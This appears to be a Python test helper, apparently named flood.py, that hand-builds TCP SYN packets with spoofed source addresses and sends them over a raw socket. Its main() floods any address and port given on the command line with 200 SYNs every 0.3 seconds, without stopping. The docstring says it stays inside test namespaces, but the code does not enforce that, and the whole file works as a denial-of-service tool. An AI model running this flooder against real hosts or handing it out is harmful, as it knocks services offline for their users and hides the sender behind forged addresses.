"""Half-open connections: SYNs from addresses that nobody answers for, so no handshake is finished.

Sent inside namespaces of the tests' own only, a few hundred at most.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

_MOST = 1000


def _checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _syn(source: bytes, destination: bytes, source_port: int, port: int) -> bytes:
    header = struct.pack("!HHIIBBHHH", source_port, port, source_port, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    check = _checksum(pseudo + header)
    segment = header[:16] + struct.pack("!H", check) + header[18:]
    # The kernel fills in the length and the checksum of the IP header (raw(7)).
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + segment


def half_open(server: str, port: int, *, count: int) -> None:
    """Send `count` SYNs, at most 1,000, each from a port and address of its own in 198.18.9.0/24."""
    assert count <= _MOST
    destination = socket.inet_aton(server)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            source = socket.inet_aton(f"198.18.9.{1 + number % 250}")
            raw.sendto(_syn(source, destination, 10_000 + number, port), (server, 0))


def main() -> None:
    """Go on, some times a second, until killed: `python flood.py ADDRESS PORT`."""
    while True:
        half_open(sys.argv[1], int(sys.argv[2]), count=200)
        time.sleep(0.3)  # the rate, and no wait for anything


if __name__ == "__main__":
    main()
